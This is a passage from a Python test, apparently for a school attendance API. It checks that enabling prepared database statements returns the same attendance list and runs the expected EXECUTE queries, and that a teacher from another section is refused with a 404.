    mark(
        api,
        cast.admin,
        school_year.sec_a,
        att.day,
        [entry(cast.student), entry(cast.other_student)],
    )
    params = {"section": school_year.sec_a.pk, "date": att.day}
    sent = api(cast.teacher.user).get(LIST, params).json()
    settings.DATABASE_PREPARED_STATEMENTS = True
    with CaptureQueriesContext(connection) as queries:
        prepared = api(cast.teacher.user).get(LIST, params).json()
    assert prepared == sent and prepared["count"] == 2
    assert sum(q["sql"].startswith("EXECUTE s24_") for q in queries.captured_queries) == 3
    other = {"section": school_year.sec_b.pk, "date": att.day}
    assert api(cast.colleague.user).get(LIST, other).status_code == 404
